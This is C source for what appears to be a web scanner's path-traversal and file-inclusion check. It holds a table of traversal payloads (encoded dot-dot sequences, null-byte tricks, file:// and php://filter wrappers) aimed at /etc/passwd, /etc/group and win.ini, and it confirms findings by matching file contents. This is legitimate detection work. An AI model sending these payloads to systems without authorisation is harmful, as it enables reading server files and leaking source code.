/* Active: a parameter names a file and may leave its directory (CWE-22, CWE-98).
 * Proof is the content of a file that every system of that kind has: the account
 * line of root, or a section of win.ini. It must be absent from the untouched page,
 * and a second, different file is read before the finding counts as certain.
 * Where a suffix is forced on (include($x . ".php")), PHP's filter wrapper shows the
 * source of the very page instead. */
#include "base/limits.h"
#include "scan/checks/active_private.h"
#include "scan/diff.h"

#define UP "../../../../../../../../../../.."
#define UP_DOUBLED "....//....//....//....//....//....//....//....//....//....//"

struct target {
	const char *payload; /* %s: the file; %v the value; %d its folder; %x its extension; %r sent as it is */
	const char *file, *other;
	bool windows;
};
static const struct target targets[] = {
	{ UP "%s", "/etc/passwd", "/etc/group", false },
	{ "%s", "/etc/passwd", "/etc/group", false },
	{ UP_DOUBLED "%s", "etc/passwd", "etc/group", false },
	{ "file://%s", "/etc/passwd", "/etc/group", false },
	{ UP "%s", "/windows/win.ini", "/windows/system.ini", true },
	{ "..\\..\\..\\..\\..\\..\\..\\..\\%s", "windows\\win.ini", "windows\\system.ini", true },
	{ UP "%s%%00", "/etc/passwd", "/etc/group", false },
	{ "%v/" UP "%s", "/etc/passwd", "/etc/group", false },
	{ "%d/" UP "%s", "/etc/passwd", "/etc/group", false },
	{ UP "%s%%00%x", "/etc/passwd", "/etc/group", false },
	{ "%r..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f%s", "etc/passwd", "etc/group", false },
	{ "..././..././..././..././..././..././..././..././..././%s", "etc/passwd", "etc/group", false },
	{ "%r..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f%s", "etc/passwd", "etc/group", false },
	{ "%r..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af%s", "etc/passwd", "etc/group", false },
	{ "..\\/..\\/..\\/..\\/..\\/..\\/..\\/..\\/%s", "etc/passwd", "etc/group", false },
	{ "/..;/..;/..;/..;/..;/..;/..;/..;/%s", "etc/passwd", "etc/group", false },
	{ UP "%s?", "/etc/passwd", "/etc/group", false },
	{ UP "%s%x", "/etc/passwd#", "/etc/group#", false },
	{ "php://filter/resource=%s", "/etc/passwd", "/etc/group", false },
	{ "%s", "c:/windows/win.ini", "c:/windows/system.ini", true },
};

/* A line "root:?:0:" of passwd or group; the whole line. */
static struct str unix_proof(struct str t)
{
	for (struct str rest = t;;) {
		ssize_t at = str_find(rest, STR("root:"));

		if (at < 0)
			return STR_NULL;
		struct str line = str_sub(rest, (size_t)at, (size_t)at + 80);
		ssize_t end = str_chr(line, '\n');

		if (end >= 0)
			line = str_sub(line, 0, (size_t)end);
		struct str fields = str_from(line, 5);
		ssize_t colon = str_chr(fields, ':');

		if (colon >= 0 && colon <= 1 &&
		    str_starts(str_from(fields, (size_t)colon), STR(":0:")))
			return str_trim(line);
		rest = str_from(rest, (size_t)at + 5);
	}
}

static struct str windows_proof(struct str t)
{
	static const char *const sections[] = { "[fonts]", "[extensions]", "[mci extensions]",
						"[drivers]", "[386Enh]" };

	if (!str_has(t, STR("16-bit app support")))
		return STR_NULL;
	for (size_t i = 0; i < ARRAY_SIZE(sections); i++) {
		ssize_t at = str_find(t, str_c(sections[i]));

		if (at >= 0)
			return str_sub(t, (size_t)at, (size_t)at + strlen(sections[i]));
	}
	return STR_NULL;
}

static struct str proof_in(const struct scan_exchange *x, bool windows)
{
	return windows ? windows_proof(active_content(x)) : unix_proof(active_content(x));
}

static bool send_file(struct probe *p, const struct target *t, const char *file,
		      const struct scan_exchange **ret)
{
	_cleanup_buf_ struct buf b = BUF_INIT(64 * KIB);
	struct str v = probe_point(p)->value;
	ssize_t slash = str_rchr(v, '/'), dot = str_rchr(v, '.');
	bool raw = false;

	for (const char *c = t->payload; *c; c++) {
		if (*c != '%') {
			buf_char(&b, *c);
			continue;
		}
		switch (*++c) {
		case 's':
			buf_c(&b, file);
			break;
		case 'v': /* the value itself, as a first folder */
			buf_str(&b, v);
			break;
		case 'd': /* the folder that the value names */
			buf_str(&b, str_sub(v, 0, slash < 0 ? 0 : (size_t)slash));
			break;
		case 'x': /* the extension */
			buf_str(&b, dot < 0 ? STR("") : str_from(v, (size_t)dot));
			break;
		case 'r':
			raw = true;
			break;
		case '%':
			if (c[1] == '0' && c[2] == '0' && !raw) {
				buf_char(&b, '\0');
				c += 2;
			} else {
				buf_char(&b, '%');
			}
			break;
		}
	}
	return probe_send(p, &(struct scan_mutation){ .value = arena_str(probe_arena(p), buf_view(&b)), .value_set = true,
						      .raw = raw && (probe_point(p)->where == WHERE_QUERY ||
								     probe_point(p)->where == WHERE_PATH ||
								     probe_point(p)->where == WHERE_BODY) },
			  ret) == 0;
}

static bool try_target(struct probe *p, const struct target *t)
{
	const struct scan_exchange *x, *again;

	if (!send_file(p, t, t->file, &x))
		return false;
	struct str proof = proof_in(x, t->windows);

	if (!proof.ptr || proof_in(probe_base(p), t->windows).ptr)
		return false;
	/* Another file through the same hole: passwd and group differ, the page does not know both.
	 */
	bool sure = send_file(p, t, t->other, &again) && proof_in(again, t->windows).ptr != NULL &&
		    !str_eq(again->body, x->body);

	probe_report(p, &(struct scan_report){ .exchange = x,
					       .proof = proof,
					       .confidence_set = true,
					       .confidence = sure ? CONFIDENCE_CERTAIN
								  : CONFIDENCE_FIRM });
	return true;
}

/* base64 of "<?php" and at least sixty characters of its like. */
static struct str encoded_source(struct str t)
{
	ssize_t at = str_find(t, STR("PD9waH"));
	size_t n = 0;

	if (at < 0)
		return STR_NULL;
	struct str s = str_from(t, (size_t)at);

	while (n < s.len &&
	       (ascii_alnum(s.ptr[n]) || s.ptr[n] == '+' || s.ptr[n] == '/' || s.ptr[n] == '='))
		n++;
	return n >= 60 ? str_sub(s, 0, n > 120 ? 120 : n) : STR_NULL;
}

static bool file_like(struct str name)
{
	static const struct str words[] = { STR_INIT("file"), STR_INIT("path"), STR_INIT("page"), STR_INIT("doc"),
					    STR_INIT("tpl"), STR_INIT("template"), STR_INIT("include"), STR_INIT("lang"),
					    STR_INIT("dir"), STR_INIT("view"), STR_INIT("name"), STR_INIT("load"),
					    STR_INIT("img"), STR_INIT("src"), STR_INIT("download"), STR_INIT("log") };

	for (size_t i = 0; i < ARRAY_SIZE(words); i++)
		if (str_ihas(name, words[i]))
			return true;
	return false;
}

static void try_filter(struct probe *p, const struct scan_point *pt)
{
	const struct scan_exchange *x, *again;
	struct str form = probe_printf(p, "php://filter/convert.base64-encode/resource=%.*s",
				       STR_ARG(pt->value));

	if (str_empty(pt->value) || pt->value.len > 100 || probe_value(p, form, &x) < 0)
		return;
	struct str proof = encoded_source(active_content(x));

	if (!proof.ptr || encoded_source(active_content(probe_base(p))).ptr)
		return;
	/* Another filter must show it otherwise. */
	form = probe_printf(p, "php://filter/read=string.rot13/resource=%.*s", STR_ARG(pt->value));
	bool sure = probe_value(p, form, &again) == 0 && !encoded_source(active_content(again)).ptr;

	probe_report(p, &(struct scan_report){ .exchange = x,
					       .proof = proof,
					       .confidence_set = true,
					       .confidence = sure ? CONFIDENCE_CERTAIN
								  : CONFIDENCE_FIRM });
}

/* Numbers and long prose do not name files; they cost only the plain form. */
static bool may_name_file(const struct scan_point *pt)
{
	int64_t n;

	return pt->value.len <= 200 && str_to_i64(pt->value, &n) < 0;
}

/* Nothing famous can be read (a suffix is forced on, another account). Then the very file of
 * the page, reached through a way that leaves the folder: /proc/self/cwd is where the
 * program stands. The right way gives the same page, two wrong ways another; what keeps
 * inside its folder answers all three alike. */
static bool try_triad(struct probe *p, const struct scan_point *pt)
{
	static const char *const folders[] = { "", "docs/", "files/", "pages/", "data/", "content/", "templates/", "static/",
					       "uploads/", "include/", "includes/", "views/", "public/", "images/", "lang/",
					       "inc/", "img/", "reports/", "download/", "downloads/" };
	static const char *const ways[] = { UP "/proc/self/cwd/", "/proc/self/cwd/" };
	struct diff_side base = diff_base(pt), dot, t, f, f2;
	size_t n = probe_mode(p) == SCAN_DEEP ? ARRAY_SIZE(folders) : 10;
	if (pt->base->status >= 400 || !probe_stable(p) || !diff_depends(p, &base))
		return false;
	if (diff_value(p, probe_printf(p, "./%.*s", STR_ARG(pt->value)), &dot) < 0 || !diff_same(p, &base, &dot))
		return false;
	for (size_t w = 0; w < ARRAY_SIZE(ways); w++)
		for (size_t i = 0; i < n; i++) {
			struct str there = probe_printf(p, "%s%s%.*s", ways[w], folders[i], STR_ARG(pt->value));
			if (diff_value(p, there, &t) < 0)
				return false;
			if (!diff_same(p, &base, &t))
				continue;
			for (int k = 0; k < 2; k++)
				if (diff_value(p, probe_printf(p, "%s%.*s/%s%.*s", w ? "/proc/self/" : UP "/proc/self/",
							       STR_ARG(probe_word(p, 3 + (size_t)k)), folders[i], STR_ARG(pt->value)),
					       k ? &f2 : &f) < 0)
					return false;
			if (diff_same(p, &base, &f) || !diff_same(p, &f, &f2) || !diff_confirmed(p, &base, &t, &f))
				return false;
			probe_report(p, &(struct scan_report){
						.exchange = t.x,
						.proof = t.sent,
						.confidence_set = true,
						.confidence = CONFIDENCE_CERTAIN,
						.detail_zh = STR("经由上级目录与 /proc/self/cwd 到达同一文件，得到相同的页面；错误的路径得到另外的页面，打乱次序重现。"),
						.detail_en = STR("The same file reached through parent folders and /proc/self/cwd gives the same "
								 "page, wrong ways give another; repeated in mixed order."),
					});
			return true;
		}
	return false;
}

static void probe_file(struct probe *p, const struct scan_point *pt)
{
	size_t tries = ARRAY_SIZE(targets);

	if (pt->where == WHERE_HEADER || (probe_sqli_found(p) && probe_mode(p) != SCAN_DEEP))
		return;
	if (probe_mode(p) != SCAN_DEEP) {
		bool named = may_name_file(pt) && pt->value.len < 100;
		bool file = named && (str_chr(pt->value, '.') >= 0 || str_chr(pt->value, '/') >= 0 || file_like(pt->name));

		tries = file ? 16 : named ? 4 : 1;
	}
	for (size_t i = 0; i < tries && !probe_reported(p); i++)
		if (try_target(p, &targets[i]))
			return;
	if (!may_name_file(pt) || probe_reported(p) || str_empty(pt->value))
		return;
	try_filter(p, pt);
	if (!probe_reported(p) && pt->value.len < 100)
		try_triad(p, pt);
}

const struct scan_check check_path_traversal = {
	.id = "path-traversal",
	.title_zh = "路径遍历或文件包含",
	.title_en = "Path traversal or file inclusion",
	.severity = SEVERITY_HIGH,
	.cwe = 22,
	.owasp = "A01:2021",
	.modes = SCAN_STANDARD_UP,
	.place = PLACE_POINT,
	.on_point = probe_file,
};
